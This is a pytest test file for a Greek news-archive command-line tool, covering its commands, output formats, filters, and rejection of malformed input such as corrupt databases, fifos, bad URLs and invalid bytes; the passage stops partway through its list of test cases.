"""The command line: every command's help, output formats, filters, and bad input refused on one
line."""

from __future__ import annotations

import csv
import errno
import hashlib
import io
import json
import os
import re
import shlex
import shutil
import sqlite3
import stat
import subprocess
import sys
import tempfile
import tomllib
from collections.abc import Iterator
from importlib.metadata import version
from pathlib import Path
from typing import Any

import click
import pytest
from click.testing import CliRunner

import newsarchive
import newsarchive.query
from newsarchive import cli
from newsarchive.archive import Archive
from newsarchive.cli import load_commands, main
from newsarchive.commands.search import SEARCH_FIELDS
from newsarchive.extract import extract
from newsarchive.query import EXPORT_FIELDS, RECORD_FIELDS, SITE_FIELDS
from newsarchive.text import content_hash, fold
from tests.conftest import REPO, site_fixtures

READ_COMMANDS = ["search", "export", "extract", "sites"]
RELATIVE_PAGE = """<!doctype html><html lang="el"><head><meta charset="utf-8">
<title>Κλειστός ο δρόμος Λάρισας – Τρικάλων | Ειδήσεις</title></head><body><article>
<h1>Κλειστός ο δρόμος Λάρισας – Τρικάλων</h1><div class="date">πριν 2 ώρες</div>
<p>Κλειστός παραμένει από το πρωί ο δρόμος Λάρισας – Τρικάλων, στο ύψος της Γιάννουλης.</p>
<p>Η Τροχαία Λάρισας έχει εκτρέψει την κυκλοφορία μέσω της παλαιάς εθνικής οδού, ενώ συνεργεία
εργάζονται στο σημείο.</p>
<p>Οι οδηγοί καλούνται να αποφεύγουν την περιοχή έως ότου αποκατασταθεί πλήρως η κυκλοφορία.</p>
</article></body></html>"""


def run(*args: str) -> tuple[int, str, str]:
    result = CliRunner().invoke(main, list(args))
    return result.exit_code, result.stdout, result.stderr


@pytest.fixture
def filled_db(db_url: str) -> str:
    """An archive holding every fixture site's article, extracted without a crawl."""
    with Archive(db_url) as archive:
        for fixture in site_fixtures():
            archive.upsert(extract(fixture.read_html(), fixture.url, fetched_at=fixture.fetched_at))
    return db_url


def imerida() -> Any:
    """thessaliatv's page of the Region's day of 19 January (the sample article)."""
    return next(
        f for f in site_fixtures() if f.site == "thessaliatv" and f.slug.startswith("imerida")
    )


# --- every command: help with an example, and a README section ---------------------------------


def command_paths(group: click.Group, prefix: tuple[str, ...] = ()) -> Iterator[tuple[str, ...]]:
    """Every registered command, as the words that invoke it (subgroups walked too)."""
    commands = load_commands() if group is main else group.commands
    for name, command in sorted(commands.items()):
        yield (*prefix, name)
        if isinstance(command, click.Group):
            yield from command_paths(command, (*prefix, name))


COMMAND_PATHS = list(command_paths(main))


def test_the_commands_are_found() -> None:
    assert {"crawl", "search", "export", "extract", "savefixture", "sites", "demo"} <= {
        path[0] for path in COMMAND_PATHS
    }


def test_each_command_is_loaded_with_its_module_only() -> None:
    from newsarchive.commands import COMMANDS

    for name, module in COMMANDS.items():
        loaded = __import__(f"newsarchive.commands.{module}", fromlist=["_"])
        assert main.commands[name].callback.__module__ == loaded.__name__, name


@pytest.mark.parametrize("path", COMMAND_PATHS, ids=" ".join)
def test_every_command_has_help_with_an_example(path: tuple[str, ...]) -> None:
    code, out, _ = run(*path, "-h")
    assert code == 0
    example = out[out.index("Example:") :] if "Example:" in out else ""
    assert f"newsarchive {' '.join(path)}" in example, out


def usage_section() -> str:
    readme = (REPO / "README.md").read_text(encoding="utf-8")
    return readme.split("\n## Usage\n", 1)[1].split("\n## ", 1)[0]


@pytest.mark.parametrize("path", COMMAND_PATHS, ids=" ".join)
def test_every_command_has_a_readme_section(path: tuple[str, ...]) -> None:
    headings = re.findall(r"^### `(newsarchive [^`]*)`", usage_section(), flags=re.M)
    name = f"newsarchive {' '.join(path)}"
    assert any(heading == name or heading.startswith(name + " ") for heading in headings), (
        f"README.md's Usage section has no ### `{name} …` heading"
    )


# --- search ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("query", ["λαρισα", "ΛΑΡΙΣΑ", "Λάρισα", "λάρισα", "ΛAPIΣA"])
def test_search_ignores_case_accents_and_latin_lookalikes(filled_db: str, query: str) -> None:
    code, out, _ = run("search", query, "--db", filled_db, "--format", "json")
    assert code == 0
    headlines = [row["headline"] for row in json.loads(out)]
    assert "Ημερίδα για την κοινωνική καινοτομία από την περιφέρεια Θεσσαλίας (ΦΩΤΟ)" in headlines


def test_search_json_keeps_greek_unescaped(filled_db: str) -> None:
    code, out, _ = run("search", "καινοτομία", "--db", filled_db, "--format", "json")
    assert code == 0
    assert "Ημερίδα" in out and "\\u" not in out


def test_search_table_lists_date_site_and_headline(filled_db: str) -> None:
    code, out, _ = run("search", "τρακτέρ", "--db", filled_db)
    assert code == 0
    assert re.search(r"2026-02-10 18:42 +larissanet +Τα τρακτέρ επιστρέφουν στα χωράφια", out)


@pytest.mark.parametrize("output_format", ["jsonl", "csv"])
def test_export_writes_every_record(filled_db: str, tmp_path: Path, output_format: str) -> None:
    target = tmp_path / f"out.{output_format}"
    code, _, err = run("export", "--format", output_format, "-o", str(target), "--db", filled_db)
    assert code == 0
    assert f"{len(site_fixtures())} article(s) exported" in err
    text = target.read_text(encoding="utf-8")
    assert "Ημερίδα για την κοινωνική καινοτομία" in text and "\\u03" not in text


def test_extract_prints_the_record_as_json(tmp_path: Path) -> None:
    fixture = next(f for f in site_fixtures() if f.slug.startswith("imerida"))
    code, out, _ = run("extract", str(fixture.html), "--url", fixture.url)
    assert code == 0
    record = json.loads(out)
    assert record["headline"] == fixture.expected["headline"]
    assert record["provenance"]["body"] == "selector"


@pytest.mark.parametrize(
    "encode",
    [lambda html: html.encode("utf-16"), lambda html: b"\x00" + html.encode()],
    ids=["utf-16", "nul-at-the-top"],
)
def test_extract_reads_utf16_pages_and_a_stray_nul(tmp_path: Path, encode: Any) -> None:
    fixture = next(f for f in site_fixtures() if f.slug.startswith("imerida"))
    page = tmp_path / "page.html"
    page.write_bytes(encode(fixture.read_html()))
    code, out, _ = run("extract", str(page), "--url", fixture.url)
    assert code == 0
    assert json.loads(out)["headline"] == fixture.expected["headline"]


def test_sites_lists_every_source_as_json() -> None:
    code, out, _ = run("sites", "--format", "json")
    assert code == 0
    names = [row["name"] for row in json.loads(out)]
    assert {"thessaliatv", "larissanet"} <= set(names)


def one_line_error(args: list[str], fragment: str) -> None:
    code, out, err = run(*args)
    assert code == 2
    assert out == ""
    assert err.count("\n") == 1 and "error:" in err and fragment in err, err


def test_unknown_site_is_refused_listing_the_known_ones(tmp_path: Path) -> None:
    db = tmp_path / "archive.db"
    one_line_error(
        ["crawl", "nosuchsite", "--db", str(db)], "known sites: e_thessalia, eleftheria, "
    )
    assert not db.exists()


@pytest.mark.parametrize(
    ("db", "fragment"),
    [
        ("bogus://x", "unsupported database URL"),
        ("postgresql://user@host:notaport/db", "malformed database URL"),
        ("://x", "malformed database URL"),
        ("sqlite:////nonexistent-folder/archive.db", "does not exist"),
    ],
)
def test_bad_database_urls_are_refused_before_crawling(db: str, fragment: str) -> None:
    one_line_error(["crawl", "thessaliatv", "--db", db], fragment)


def test_a_file_that_is_not_a_database_is_refused_and_left_alone(tmp_path: Path) -> None:
    not_db = tmp_path / "notes.db"
    not_db.write_bytes(b"these are my notes, not a database\n")
    one_line_error(["crawl", "thessaliatv", "--db", str(not_db)], "file is not a database")
    assert not_db.read_bytes() == b"these are my notes, not a database\n"


def test_search_of_a_missing_archive_does_not_create_one(tmp_path: Path) -> None:
    one_line_error(["search", "Λάρισα", "--db", str(tmp_path / "none.db")], "no archive at")
    assert not (tmp_path / "none.db").exists()


def test_empty_search_is_refused(filled_db: str) -> None:
    one_line_error(["search", "  ", "--db", filled_db], "empty search")


@pytest.mark.parametrize("content", [b"just some text\n", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"])
def test_extract_refuses_a_file_that_is_not_html(tmp_path: Path, content: bytes) -> None:
    page = tmp_path / "page.txt"
    page.write_bytes(content)
    one_line_error(
        ["extract", str(page), "--url", "https://www.thessaliatv.gr/news/1/"], "is not an HTML page"
    )


def test_extract_refuses_a_relative_url(tmp_path: Path) -> None:
    page = tmp_path / "page.html"
    page.write_text("<html><body><p>Κείμενο</p></body></html>", encoding="utf-8")
    one_line_error(["extract", str(page), "--url", "news/185511"], "not an absolute http(s) URL")


def test_export_to_a_missing_folder_is_refused(filled_db: str, tmp_path: Path) -> None:
    one_line_error(
        ["export", "-o", str(tmp_path / "no" / "out.jsonl"), "--db", filled_db], "does not exist"
    )


def test_usage_errors_are_one_line_too() -> None:
    one_line_error(["extract", "page.html"], "Missing option '--url'")


def test_crawl_needs_sites_or_all() -> None:
    one_line_error(["crawl"], "name the sites to crawl, or give --all")


def test_extract_takes_a_file_url_of_a_saved_page() -> None:
    fixture = next(f for f in site_fixtures() if f.slug.startswith("imerida"))
    code, out, _ = run("extract", f"file://{fixture.html}", "--url", fixture.url)
    assert code == 0
    assert json.loads(out)["canonical_url"] == fixture.expected["canonical_url"]


def test_extract_of_a_missing_file_is_refused(tmp_path: Path) -> None:
    one_line_error(
        ["extract", str(tmp_path / "gone.html"), "--url", "https://a.gr/x"], "cannot read"
    )


# --- shared output options: one record shape, every format ------------------------------------


def records_of(output_format: str, text: str) -> list[dict[str, Any]]:
    """What a command wrote, read back in its format (table: the heading row only)."""
    if output_format == "json":
        data = json.loads(text)
        return data if isinstance(data, list) else [data]
    if output_format == "jsonl":
        return [json.loads(line) for line in text.splitlines()]
    if output_format == "csv":
        return list(csv.DictReader(io.StringIO(text)))
    return [{"heading": text.splitlines()[0]}]


def read_command(command: str, db: str) -> list[str]:
    fixture = imerida()
    return {
        "search": ["search", "καινοτομία", "--db", db],
        "export": ["export", "--db", db],
        "extract": [
            *("extract", str(fixture.html), "--url", fixture.url),
            *("--fetched-at", fixture.fetched_at.isoformat()),
        ],
        "sites": ["sites"],
    }[command]


@pytest.mark.parametrize("output_format", cli.FORMATS)
@pytest.mark.parametrize("command", READ_COMMANDS)
def test_every_read_command_writes_every_format(
    filled_db: str, tmp_path: Path, command: str, output_format: str
) -> None:
    args = [*read_command(command, filled_db), "--format", output_format]
    code, out, err = run(*args)
    assert code == 0, err
    target = tmp_path / f"out.{output_format}"
    code, written, err = run(*args, "-o", str(target))
    assert code == 0 and written == "", err
    assert target.read_text(encoding="utf-8") == out
    rows = records_of(output_format, out)
    assert rows and "\\u03" not in out
    if output_format == "table":
        assert ("field" if command == "extract" else "site") in rows[0]["heading"]
    else:
        fields = {"sites": SITE_FIELDS, "search": SEARCH_FIELDS, "export": EXPORT_FIELDS}
        assert list(rows[0]) == list(fields.get(command, RECORD_FIELDS))


def test_search_export_and_extract_give_the_same_record(filled_db: str) -> None:
    fixture = imerida()
    _, searched, _ = run(
        "search", "καινοτομία", "--site", "thessaliatv", "--db", filled_db, "--format", "json"
    )
    _, exported, _ = run("export", "--db", filled_db, "--site", "thessaliatv")
    _, extracted, _ = run(
        "extract", str(fixture.html), "--url", fixture.url, "--fetched-at", str(fixture.fetched_at)
    )
    from_search = next(row for row in json.loads(searched) if row["site"] == fixture.site)
    from_export = next(
        row
        for row in map(json.loads, exported.splitlines())
        if row["canonical_url"] == from_search["canonical_url"]
    )
    from_extract = json.loads(extracted)
    assert list(from_search) == list(SEARCH_FIELDS)
    assert list(from_export) == list(EXPORT_FIELDS)
    assert list(from_extract) == list(RECORD_FIELDS)
    assert from_search["versions"] == 1  # what only the archive knows, besides its story
    assert from_export["extractor_version"] == newsarchive.__version__
    shown = [name for name in SEARCH_FIELDS if name not in ("score", "snippet")]
    assert {name: from_search[name] for name in shown} == {
        name: from_export[name] for name in shown
    }
    assert re.search(r"\[[Κκ]αινοτομ(ία|ίας)\]", from_search["snippet"])  # the word as written
    assert from_extract["first_seen_at"] is None
    assert {name: from_export[name] for name in RECORD_FIELDS} == {
        **from_extract,
        "first_seen_at": from_export["first_seen_at"],
    }


def test_output_file_is_written_whole_or_not_at_all(
    filled_db: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "out").mkdir()
    target = tmp_path / "out" / "articles.jsonl"
    target.write_text("the previous export\n", encoding="utf-8")
    calls: list[object] = []

    def failing_record(row: object, **options: object) -> dict[str, Any]:
        calls.append(row)
        if len(calls) == 3:
            raise RuntimeError("the archive went away")
        return {"n": len(calls)}

    monkeypatch.setattr(newsarchive.query, "export_record", failing_record)
    result = CliRunner().invoke(main, ["export", "-o", str(target), "--db", filled_db])
    assert result.exit_code != 0 and len(calls) == 3
    assert target.read_text(encoding="utf-8") == "the previous export\n"
    assert [path.name for path in target.parent.iterdir()] == ["articles.jsonl"]


def test_output_to_a_folder_is_refused(filled_db: str, tmp_path: Path) -> None:
    one_line_error(["search", "λάρισα", "--db", filled_db, "-o", str(tmp_path)], "is a folder")


# --- shared filters ---------------------------------------------------------------------------


def urls_of(args: list[str]) -> list[str]:
    code, out, err = run(*args, "--format", "jsonl")
    assert code == 0, err
    return [json.loads(line)["canonical_url"] for line in out.splitlines()]


def test_filters_on_search_and_export(filled_db: str) -> None:
    every = urls_of(["export", "--db", filled_db])
    assert len(every) == len(site_fixtures())
    larissanet = urls_of(["export", "--db", filled_db, "--site", "larissanet"])
    assert larissanet and all("larissanet.gr" in url for url in larissanet)
    each = [arg for site in sorted({f.site for f in site_fixtures()}) for arg in ("--site", site)]
    assert len(each) > 2 and urls_of(["export", "--db", filled_db, *each]) == every
    assert urls_of(["export", "--db", filled_db, "--limit", "2"]) == every[:2]
    magnisia = urls_of(["export", "--db", filled_db, "--region", "magnisia"])
    volos = {"e-thessalia.gr", "taxydromos.gr", "myvolos.net", "volosday.gr"}
    assert magnisia and all(any(host in url for host in volos) for url in magnisia)
    assert urls_of(["export", "--db", filled_db, "--since", "2026-02-10", "--until", "2026-02-10"])
    # the order among them is newest first (tests/test_query.py); here, which ones
    in_section = urls_of(["search", "λαρισα", "--db", filled_db, "--section", "λαρισα"])
    assert {
        "https://www.thessaliatv.gr/news/185511/",
        *urls_of(["export", "--db", filled_db, "--site", "larissanet", "--section", "ΛΑΡΙΣΑ"]),
    } <= set(in_section)
    sections = {
        json.loads(line)["section"]
        for line in run("export", "--db", filled_db, "--format", "jsonl")[1].splitlines()
        if json.loads(line)["canonical_url"] in in_section
    }
    assert {fold(section) for section in sections} == {"λαρισα"}
    assert urls_of(["search", "λαρισα", "--db", filled_db, "--until", "2000-01-01"]) == []


@pytest.mark.parametrize("command", ["search", "export"])
def test_unknown_site_is_refused_before_anything_is_opened(command: str, tmp_path: Path) -> None:
    db, target = tmp_path / "none.db", tmp_path / "out.jsonl"
    args = [command, *(["λάρισα"] if command == "search" else []), "--db", str(db)]
    one_line_error(
        [*args, "--site", "larissanet", "--site", "nosuchsite", "-o", str(target)],
        "unknown site 'nosuchsite'; known sites: e_thessalia, eleftheria, ",
    )
    assert not db.exists() and not target.exists()


@pytest.mark.parametrize(
    ("option", "value", "fragment"),
    [
        ("--since", "2026-13-01", "--since '2026-13-01' is not an ISO date or datetime"),
        ("--until", "yesterday", "--until 'yesterday' is not an ISO date or datetime"),
        ("--region", "attiki", "'attiki' is not one of 'larisa'"),
        ("--limit", "0", "--limit"),
    ],
)
def test_bad_filter_values_are_refused_on_one_line(
    filled_db: str, option: str, value: str, fragment: str
) -> None:
    one_line_error(["export", "--db", filled_db, option, value], fragment)


def test_since_after_until_is_refused(filled_db: str) -> None:
    one_line_error(
        ["search", "λάρισα", "--db", filled_db, "--since", "2026-03-01", "--until", "2026-02-01"],
        "is after until",
    )


# --- extract --fetched-at -------------------------------------------------------------------------


def test_extract_fetched_at_reproduces_relative_dates(tmp_path: Path) -> None:
    page = tmp_path / "page.html"
    page.write_text(RELATIVE_PAGE, encoding="utf-8")
    url = "https://www.example.gr/news/kleistos-dromos/"
    for _ in range(2):
        code, out, err = run("extract", str(page), "--url", url, "--fetched-at", "2026-02-10T20:00")
        assert code == 0, err
        data = json.loads(out)
        assert data["published_raw"] == "πριν 2 ώρες"
        assert data["published_at"] == "2026-02-10T18:00:00+02:00"
        assert data["fetched_at"] == "2026-02-10T20:00:00+02:00"


def test_extract_refuses_a_bad_fetched_at(tmp_path: Path) -> None:
    fixture = imerida()
    one_line_error(
        ["extract", str(fixture.html), "--url", fixture.url, "--fetched-at", "χθες"],
        "--fetched-at 'χθες' is not an ISO date or datetime",
    )


def test_extract_of_a_page_without_an_article_exits_1_on_one_line(tmp_path: Path) -> None:
    page = tmp_path / "listing.html"
    links = "".join(f'<li><a href="/news/{n}/">Είδηση {n}</a></li>' for n in range(30))
    page.write_text(f"<html><body><ul>{links}</ul></body></html>", encoding="utf-8")
    code, out, err = run("extract", str(page), "--url", "https://www.thessaliatv.gr/news/")
    assert code == 1 and out == ""
    assert err.count("\n") == 1 and "is not an article page" in err, err


# --- version and Scrapy settings --------------------------------------------------------------


def test_the_version_is_written_once() -> None:
    from newsarchive import settings

    pyproject = tomllib.loads((REPO / "pyproject.toml").read_text(encoding="utf-8"))
    assert newsarchive.__version__ == version("newsarchive") == pyproject["project"]["version"]
    assert settings.USER_AGENT.startswith(f"newsarchive/{newsarchive.__version__} ")
    code, out, _ = run("--version")
    assert code == 0 and out.strip().endswith(newsarchive.__version__)


def test_the_mirror_handler_is_installed_only_with_a_mirror() -> None:
    from newsarchive import settings
    from newsarchive.crawl import crawl_settings

    assert not hasattr(settings, "DOWNLOAD_HANDLERS")
    plain = crawl_settings("sqlite:///x.db")
    assert not plain.getdict("DOWNLOAD_HANDLERS") and not plain.get("NEWSARCHIVE_MIRROR")
    assert plain.getfloat("DOWNLOAD_DELAY") == 0.5
    mirrored = crawl_settings("sqlite:///x.db", mirror="http://127.0.0.1:8000")
    assert set(mirrored.getdict("DOWNLOAD_HANDLERS").values()) == {
        "newsarchive.mirror.MirrorDownloadHandler"
    }
    assert mirrored.get("NEWSARCHIVE_MIRROR") == "http://127.0.0.1:8000"


def test_settings_deviate_from_scrapy_defaults_only() -> None:
    from scrapy.settings import default_settings

    from newsarchive import settings

    names = [name for name in vars(settings) if name.isupper()]
    assert names
    for name in names:
        assert getattr(settings, name) != getattr(default_settings, name, None), name


def test_scrapy_list_works_from_the_repository_root() -> None:
    done = subprocess.run(
        [sys.executable, "-m", "scrapy", "list"],
        cwd=REPO,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.returncode == 0, done.stderr
    assert {"larissanet", "thessaliatv"} <= set(done.stdout.split())


# --- savefixture ----------------------------------------------------------------------------------


def savefixture_args(fixture: Any, *more: str) -> list[str]:
    return [
        *("savefixture", fixture.site, str(fixture.html), "--url", fixture.url),
        *("--fetched-at", fixture.fetched_at.isoformat(), *more),
    ]


def test_savefixture_writes_a_golden_page_to_review(tmp_path: Path) -> None:
    from newsarchive import golden

    fixture = imerida()
    target = tmp_path / "new" / "imerida.json"
    target.parent.mkdir()
    code, out, err = run(*savefixture_args(fixture, "-o", str(target)))
    assert code == 0 and out == "", err
    assert "article fixture; review it" in err
    assert target.with_suffix(".html").read_bytes() == fixture.html.read_bytes()
    page = golden.load(target)
    assert page.kind == "article" and page.url == fixture.url
    assert page.fetched_at == fixture.fetched_at
    assert page.expected is not None
    assert golden.differences(page.extract(), page.expected) == []
    assert page.expected["headline"] == fixture.expected["headline"]
    _, printed, _ = run(*savefixture_args(fixture))
    assert printed == target.read_text(encoding="utf-8")
    assert "\\u03" not in printed


def test_savefixture_of_a_listing_gives_a_not_article_page(tmp_path: Path) -> None:
    from newsarchive import golden

    page = tmp_path / "listing.html"
    links = "".join(f'<li><a href="/news/{n}/">Είδηση {n}</a></li>' for n in range(30))
    page.write_text(f"<html><body><ul>{links}</ul></body></html>", encoding="utf-8")
    target = tmp_path / "listing.json"
    code, _, err = run(
        *("savefixture", "thessaliatv", str(page), "--url", "https://www.thessaliatv.gr/news/"),
        *("--fetched-at", "2026-02-09T11:00+02:00", "-o", str(target)),
    )
    assert code == 0, err
    saved = golden.load(target)
    assert saved.kind == "not_article" and saved.expected_reason


@pytest.mark.parametrize(
    ("site", "fetched_at", "out", "fragment"),
    [
        (
            "nosuchsite",
            None,
            "out.json",
            "unknown site 'nosuchsite'; known sites: e_thessalia, eleftheria, ",
        ),
        ("larissanet", None, "out.json", "is not a larissanet URL"),
        (None, "yesterday", "out.json", "--fetched-at 'yesterday' is not an ISO date or datetime"),
        (None, None, "out.txt", "a golden fixture is a .json file"),
        (None, None, "missing/out.json", "does not exist"),
    ],
)
def test_savefixture_refuses_bad_input_and_writes_nothing(
    tmp_path: Path, site: str | None, fetched_at: str | None, out: str, fragment: str
) -> None:
    fixture = imerida()
    one_line_error(
        [
            *("savefixture", site or fixture.site, str(fixture.html), "--url", fixture.url),
            *("--fetched-at", fetched_at or fixture.fetched_at.isoformat()),
            *("-o", str(tmp_path / out)),
        ],
        fragment,
    )
    assert list(tmp_path.iterdir()) == []


def test_savefixture_needs_fetched_at() -> None:
    fixture = imerida()
    one_line_error(
        ["savefixture", fixture.site, str(fixture.html), "--url", fixture.url],
        "Missing option '--fetched-at'",
    )


def test_savefixture_will_not_pair_the_record_with_another_page(tmp_path: Path) -> None:
    other = tmp_path / "out.html"
    other.write_text("<html><body><p>Άλλη σελίδα</p></body></html>", encoding="utf-8")
    one_line_error(
        [*savefixture_args(imerida()), "-o", str(tmp_path / "out.json")], "is another page"
    )
    assert [path.name for path in tmp_path.iterdir()] == ["out.html"]


# --- hostile input: one line on stderr, the exit status, nothing written or changed --------------

ARTICLE_URL = "https://www.thessaliatv.gr/news/185511/"
SAVE = "savefixture thessaliatv {page} --fetched-at 2026-02-09T11:00+02:00"
BAD_BYTE = b"\xff".decode("utf-8", "surrogateescape")
"""What an argument holding a byte that is not UTF-8 becomes in sys.argv."""


@pytest.fixture(scope="module")
def workspace_template(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The files of `make_workspace` that take time to make, made once."""
    folder = tmp_path_factory.mktemp("template")
    archive = folder / "archive.db"
    with Archive(f"sqlite:///{archive}") as opened:
        for fixture in site_fixtures():
            opened.upsert(extract(fixture.read_html(), fixture.url, fetched_at=fixture.fetched_at))
    (folder / "corrupt.db").write_bytes(b"SQLite format 3\x00" + b"\x13" * 4000)
    (folder / "notes.db").write_bytes(b"these are my notes, not a database\n")
    (folder / "empty.db").write_bytes(b"")
    other = sqlite3.connect(folder / "other.db")
    other.execute("CREATE TABLE contacts (name TEXT)")
    other.commit()
    other.close()
    future = folder / "future.db"
    future.write_bytes(archive.read_bytes())
    connection = sqlite3.connect(future)
    connection.execute("UPDATE alembic_version SET version_num = 'ffff9999'")
    connection.commit()
    connection.close()
    damaged = folder / "damaged.db"
    with Archive(f"sqlite:///{damaged}") as opened:
        for n in range(300):
            page = extract(
                imerida().read_html(),
                f"https://www.thessaliatv.gr/news/{n}/",
                fetched_at=imerida().fetched_at,
            )
            page.body += f" {n}"  # each its own text: the same text would make aliases
            page.content_hash = content_hash(page.headline, page.lead, page.body)
            opened.upsert(page)
    data = bytearray(damaged.read_bytes())
    schema_pages = 40  # each table and index has its root page among the first ones
    data[schema_pages * 4096 :] = b"\xff" * (len(data) - schema_pages * 4096)
    damaged.write_bytes(bytes(data))
    return folder


def make_workspace(template: Path, folder: Path) -> dict[str, str]:
    """A folder of hostile things, and the names the cases use for them."""
    shutil.copytree(template, folder)
    archive = folder / "archive.db"
    (folder / "page.html").write_bytes(imerida().html.read_bytes())
    (folder / "saved.json").write_bytes(imerida().html.read_bytes())
    (folder / "db-link").symlink_to(archive)
    os.link(archive, folder / "db-hard")
    (folder / "existing.jsonl").write_text("the previous export\n", encoding="utf-8")
    (folder / "folder").mkdir()
    os.mkfifo(folder / "fifo")
    (folder / "fifo-link").symlink_to(folder / "fifo")
    with (folder / "huge.html").open("wb") as huge:  # sparse: takes no disk space
        huge.truncate(20 * 1024 * 1024 + 1)  # more than the default --max-bytes
    return {
        "db": str(archive),
        "tmp": str(folder),
        "page": str(folder / "page.html"),
        "words": " ".join(f"λέξη{n}" for n in range(1000)),
        "long": "α" * 300,
        "bad": BAD_BYTE,
    }


def snapshot(folder: Path) -> dict[str, Any]:
    """Everything in a folder: each entry's kind, permissions and content (or link target)."""
    found: dict[str, Any] = {}
    for path in sorted(folder.rglob("*")):
        info = path.lstat()
        if stat.S_ISLNK(info.st_mode):
            content: Any = os.readlink(path)
        elif stat.S_ISREG(info.st_mode):
            content = hashlib.sha256(path.read_bytes()).hexdigest()
        else:
            content = None
        found[str(path.relative_to(folder))] = (stat.S_IFMT(info.st_mode), info.st_mode, content)
    return found


def no_space(monkeypatch: pytest.MonkeyPatch) -> None:
    """Files opened for writing fail as on a full disk, after a little was written."""
    real_fdopen = os.fdopen

    class FullDisk:
        def __init__(self, stream: Any) -> None:
            self.stream, self.written = stream, 0

        def write(self, data: Any) -> int:
            self.written += len(data)
            if self.written > 100:
                raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
            return int(self.stream.write(data))

        def __getattr__(self, name: str) -> Any:
            return getattr(self.stream, name)

        def __enter__(self) -> FullDisk:
            return self

        def __exit__(self, *exc: object) -> None:
            self.stream.close()

    def fdopen(fd: int, mode: str = "r", *args: Any, **kwargs: Any) -> Any:
        stream = real_fdopen(fd, mode, *args, **kwargs)
        return FullDisk(stream) if "w" in mode else stream

    monkeypatch.setattr(os, "fdopen", fdopen)


def no_permission(monkeypatch: pytest.MonkeyPatch) -> None:
    """The folder refuses new files (as a read-only folder does to anyone but root)."""

    def mkstemp(*args: Any, **kwargs: Any) -> Any:
        raise PermissionError(errno.EACCES, os.strerror(errno.EACCES))

    monkeypatch.setattr(tempfile, "mkstemp", mkstemp)


def case(name: str, fragment: str, *args: str, code: int = 2, patch: Any = None) -> Any:
    """One hostile command line (one string split as a shell does, or the words), what
    stderr's one line says, the exit status, and what to break first (`patch(monkeypatch)`)."""
    words = shlex.split(args[0]) if len(args) == 1 else list(args)
    return pytest.param(words, fragment, code, patch, id=name)


HOSTILE = [
    # archives that are not ours, or not in a state we know
    case("corrupt file", "not a database", "search λάρισα --db {tmp}/corrupt.db"),
    case("not sqlite", "file is not a database", "export --db {tmp}/notes.db"),
    case("empty file", "is not a newsarchive", "search λάρισα --db {tmp}/empty.db"),
    case("foreign search", "is not a newsarchive", "search x --db {tmp}/other.db"),
    case("foreign export", "another program's tables", "export --db {tmp}/other.db"),
    case("foreign crawl", "not a newsarchive", "crawl thessaliatv --db {tmp}/other.db"),
    case("unknown revision", "revision 'ffff9999'", "export --db {tmp}/future.db"),
    case("unknown rev crawl", "ffff9999", "crawl --all --db {tmp}/future.db"),
    case(
        "damaged pages",
        "cannot read archive",
        "export --db {tmp}/damaged.db -o {tmp}/existing.jsonl",
    ),
    case("db is a folder", "it is a folder", "search x --db {tmp}/folder"),
    case("db is a fifo", "not a regular file", "export --db {tmp}/fifo"),
    case("empty --db search", "empty database URL", "search x --db ''"),
    case("empty --db crawl", "empty database URL", "crawl thessaliatv --db ' '"),
    case("in-memory crawl", "in-memory", "crawl thessaliatv --db sqlite://"),
    case("in-memory demo", "in-memory", "demo --db sqlite:///:memory:"),
    case("sqlite options", "options", "search x --db sqlite:///{db}?mode=ro"),
    case("bad byte in pg url", "UTF-8", "search x --db postgresql://u@h/d{bad}"),
    # queries and filters
    case("1000 words", "give at most 50", "search {words} --db {db}"),
    case("300-letter word", "at most 200", "search {long} --db {db}"),
    case("bad byte query", "not valid text", "search a{bad} --db {db}"),
    case("bad byte section", "not valid text", "export --db {db} --section {bad}"),
    case("bad byte region", "is not one of", "export --db {db} --region {bad}"),
    case("huge limit", "--limit", "search", "x", "--db", "{db}", "--limit", "9" * 20),
    case("year 1", "out of range", "search x --db {db} --since 0001-01-01"),
    case("year 10000", "out of range", "export --db {db} --until 9999-12-31T23:59-12:00"),
    case("unknown site", "unknown site", "export --db {db} --site nosuch"),
    case("unknown site search", "not valid", "search x --db {db} --site {bad}"),
    # URLs
    case("ipv6 url", "Invalid IPv6 URL", "extract {page} --url http://[x/"),
    case("bad port", "Port out of range", "extract {page} --url http://e.gr:99999/"),
    case("port 0", "port 0", "extract {page} --url http://e.gr:0/"),
    case("bad byte url", "not valid text", "extract {page} --url http://e.gr/{bad}"),
    case("escape in url", "control char", "extract", "{page}", "--url", "http://e.gr/\x1b[2J"),
    case(
        "fixture bad port",
        "Port out of range",
        SAVE + " --url https://www.thessaliatv.gr:99999/news/1/",
    ),
    case("fixture ipv6", "Invalid IPv6 URL", SAVE + " --url http://[x/"),
    case(
        "mirror ipv6",
        "Invalid IPv6 URL",
        "crawl thessaliatv --db {tmp}/new.db --mirror http://[x",
    ),
    case(
        "mirror port",
        "Port out of range",
        "crawl thessaliatv --db {tmp}/new.db --mirror http://e.gr:99999",
    ),
    case(
        "mirror host",
        "not a host of any known site",
        "crawl thessaliatv --db {tmp}/n.db --mirror a.gr=http://b.gr",
    ),
    # saved pages
    case("page is a fifo", "not a regular file", "extract {tmp}/fifo --url {url}"),
    case("page is a device", "not a regular", "extract /dev/zero --url {url}"),
    case("page is a folder", "is a folder", "extract {tmp}/folder --url {url}"),
    case("page too big", "--max-bytes", "extract {tmp}/huge.html --url {url}"),
    case(
        "page > max-bytes",
        "larger than --max-bytes 1,000 bytes",
        "extract {page} --url {url} --max-bytes 1000",
    ),
    case("no page", "give the saved page", "extract '' --url {url}"),
    case("remote file url", "this machine", "extract file://host/x.html --url {url}"),
    case(
        "fixture of a fifo",
        "not a regular file",
        "savefixture thessaliatv {tmp}/fifo --url {url} --fetched-at 2026-02-09T11:00",
    ),
    case("fetched in year 1", "out of range", "extract {page} --url {url} --fetched-at 0001-01-01"),
    case(
        "fixture year 10000",
        "out of range",
        "savefixture thessaliatv {page} --fetched-at 9999-12-31T23:59:59-12:00 --url {url}",
    ),
    # output files
    case("-o folder", "is a folder", "export --db {db} -o {tmp}/folder"),
    case("-o folder/", "names a folder", "export --db {db} -o {tmp}/newfolder/"),
    case("-o fifo", "not a regular file", "export --db {db} -o {tmp}/fifo"),
